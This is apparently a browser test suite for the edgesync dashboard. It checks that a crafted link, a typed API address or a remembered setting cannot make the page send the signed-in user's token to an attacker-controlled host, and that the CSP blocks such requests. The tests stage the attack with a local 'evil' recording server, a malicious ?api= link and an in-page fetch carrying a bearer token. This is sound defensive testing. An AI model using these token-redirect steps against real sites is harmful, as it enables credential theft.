// Which API the dashboard may send the user's token to (issue 12, hole 8),
// and a dashboard on another origin than the API (issue 13, gap 1), in
// headless Chromium against the real local stack.
//
// The attack: a link to the real dashboard with ?api=https://evil… used to
// make the page send the signed-in user's JWT to evil and remember evil as
// the API. An "evil" HTTP server records every request it gets; the page
// must send it none, with or without the token, and remember nothing.

import { describe, it, before, after } from "node:test";
import assert from "node:assert/strict";
import { startStack } from "../client/test/stack.mjs";
import { launch, listen, recordingServer, serveDashboard, useToken, waitForText, screenshot } from "./browser.mjs";

describe("dashboard API origins in Chromium", () => {
  let stack;
  let evil;
  let browser;
  let page;
  let dead;
  const pageErrors = [];

  before(async () => {
    evil = await recordingServer();
    // An origin nothing listens on: allowed by configuration, unreachable.
    const gone = await listen(() => {});
    dead = gone.origin;
    await gone.close();
    stack = await startStack({ demo: 1, args: ["--param", `DashboardAPIOrigins=${dead}`] });
    browser = await launch();
    page = await browser.context.newPage();
    page.on("pageerror", (err) => pageErrors.push(err));
  });

  after(async () => {
    await browser?.close();
    await stack?.stop();
    await evil?.close();
  });

  const noRequestsToEvil = async (what) => {
    // Give a wrongly sent request time to arrive before concluding none came.
    await page.waitForTimeout(500);
    assert.deepEqual(evil.requests, [], `${what}: the evil host got no request (${JSON.stringify(evil.requests.map((r) => [r.method, r.url, r.headers.authorization]))})`);
  };

  it("sends no token to an ?api= host that is not configured, and forgets it", { timeout: 60_000 }, async () => {
    // The victim is signed in: the session holds the token.
    await page.goto(`${stack.httpURL}/?token=${encodeURIComponent(stack.users.operator)}`);
    await page.locator('#fleet-rows tr[data-terminal-id="demo-1"]').waitFor();

    // The attacker's link.
    await page.goto(`${stack.httpURL}/?api=${encodeURIComponent(evil.url + "/prod")}`);
    const banner = page.locator("#error-banner");
    const text = await waitForText(banner, /not one this dashboard may call, so nothing was sent to it \(not your token either\)/);
    assert.match(text, new RegExp(`The API ${evil.origin.replace(/[.:/]/g, "\\$&")} `));
    assert.match(text, /DASHBOARD_API_ORIGINS/);
    await page.locator("#not-connected").waitFor();
    assert.equal(await page.textContent("#api-shown"), "not set");
    await screenshot(page, "refused-api");
    await noRequestsToEvil("?api=evil");
    assert.equal(await page.evaluate(() => localStorage.getItem("edgesync.apiURL")), null, "the refused API is not remembered");
    assert.ok(!page.url().includes("api="), `the address no longer holds ?api=: ${page.url()}`);

    // The next visit uses the page's own API again.
    await page.goto(`${stack.httpURL}/`);
    await page.locator('#fleet-rows tr[data-terminal-id="demo-1"]').waitFor();
    assert.equal(await banner.isVisible(), false);

    // With a token in the link too.
    await page.goto(`${stack.httpURL}/?api=${encodeURIComponent(evil.url)}&token=stolen-or-not`);
    await waitForText(banner, /nothing was sent/);
    await noRequestsToEvil("?api=evil&token=");
  });

  it("refuses a host typed into the API field and one remembered from before", { timeout: 60_000 }, async () => {
    await page.goto(`${stack.httpURL}/?token=${encodeURIComponent(stack.users.operator)}`);
    await page.locator('#fleet-rows tr[data-terminal-id="demo-1"]').waitFor();
    await page.fill("#api-url", evil.url);
    await page.click("#settings button[type=submit]");
    await waitForText(page.locator("#error-banner"), /nothing was sent/);
    await noRequestsToEvil("the API field");
    assert.equal(await page.evaluate(() => localStorage.getItem("edgesync.apiURL")), null);

    // An older dashboard (or an older allow-list) may have saved one.
    await page.evaluate((url) => localStorage.setItem("edgesync.apiURL", url), evil.url);
    await page.goto(`${stack.httpURL}/`);
    await waitForText(page.locator("#error-banner"), /nothing was sent/);
    await noRequestsToEvil("a remembered API");
    assert.equal(await page.evaluate(() => localStorage.getItem("edgesync.apiURL")), null, "the remembered API is forgotten");
    await page.click("#api-reset");
    await page.locator('#fleet-rows tr[data-terminal-id="demo-1"]').waitFor();
  });

  it("has a Content-Security-Policy that blocks any other host too", { timeout: 60_000 }, async () => {
    const res = await page.goto(`${stack.httpURL}/`);
    const csp = res.headers()["content-security-policy"];
    assert.match(csp, new RegExp(`connect-src 'self' ${dead.replace(/[.:/]/g, "\\$&")};`), `CSP ${csp}`);
    assert.doesNotMatch(csp, /\*/);
    // Even a script that skipped the page's check could not reach evil.
    const outcome = await page.evaluate(
      (url) => fetch(url + "/terminals", { headers: { Authorization: "Bearer t" } }).then(() => "sent", (err) => `blocked: ${err.message}`),
      evil.url,
    );
    assert.match(outcome, /^blocked/);
    await noRequestsToEvil("a fetch from the page");
  });

  it("calls a configured API origin (DASHBOARD_API_ORIGINS) and explains when it cannot be reached", { timeout: 60_000 }, async () => {
    const content = await page.goto(`${stack.httpURL}/`).then(() => page.locator('meta[name="edgesync-api-origins"]').getAttribute("content"));
    assert.equal(content, dead, "the stack's DashboardAPIOrigins parameter reaches the page");
    await page.goto(`${stack.httpURL}/?api=${encodeURIComponent(dead)}`);
    const banner = page.locator("#error-banner");
    await waitForText(banner, new RegExp(`cannot reach the API at ${dead.replace(/[.:/]/g, "\\$&")}`));
    assert.equal(await page.evaluate(() => localStorage.getItem("edgesync.apiURL")), dead, "an allowed API is remembered");
    await page.click("#api-reset");
    await page.locator('#fleet-rows tr[data-terminal-id="demo-1"]').waitFor();
    await banner.waitFor({ state: "hidden" });
    assert.equal(await page.inputValue("#api-url"), stack.httpURL);
    // A URL that is no URL is explained too.
    await page.fill("#api-url", "not a url");
    await page.click("#settings button[type=submit]");
    await waitForText(banner, /Set the API URL above: .*not an absolute URL/);
    await page.click("#api-reset");
    await banner.waitFor({ state: "hidden" });
  });

  it("works from another origin than the API, with a token, through CORS", { timeout: 90_000 }, async () => {
    // The dashboard's files on a host of their own (as on a static host or
    // CDN), configured to call the stack's API: every call carries a
    // bearer token, so each is a CORS request with a preflight.
    const other = await serveDashboard({ apiOrigins: [new URL(stack.httpURL).origin] });
    const second = await browser.context.newPage();
    second.on("pageerror", (err) => pageErrors.push(err));
    try {
      assert.notEqual(new URL(other.url).origin, new URL(stack.httpURL).origin);
      await second.goto(`${other.url}/?api=${encodeURIComponent(stack.httpURL)}`);
      // Another origin, so another session: the token is asked for again.
      await waitForText(second.locator("#error-banner"), /HTTP 401|cannot reach the API/);
      await useToken(second, stack.users.operator);
      await second.locator('#fleet-rows tr[data-terminal-id="demo-1"] [data-state="online"]').waitFor();
      await second.click('#fleet-rows a.terminal-link:text-is("demo-1")');
      await second.locator("#log-lines .log-line").first().waitFor();
      await second.click("#btn-ping");
      await second.locator('#command-outcomes li[data-command="ping"][data-state="succeeded"]').waitFor();
      assert.equal(await second.locator("#error-banner").isVisible(), false, "no error banner");
      // The setting is remembered for the next visit without ?api=.
      await second.goto(`${other.url}/`);
      await second.locator('#fleet-rows tr[data-terminal-id="demo-1"]').waitFor();
      await screenshot(second, "other-origin");
      // The copy on the other host refuses evil as the stack's page does.
      await second.goto(`${other.url}/?api=${encodeURIComponent(evil.url)}`);
      await waitForText(second.locator("#error-banner"), /nothing was sent/);
      await noRequestsToEvil("the copy on another host");
    } finally {
      await second.close();
      await other.close();
    }
  });

  it("raised no script errors", () => {
    assert.deepEqual(pageErrors.map(String), []);
  });
});
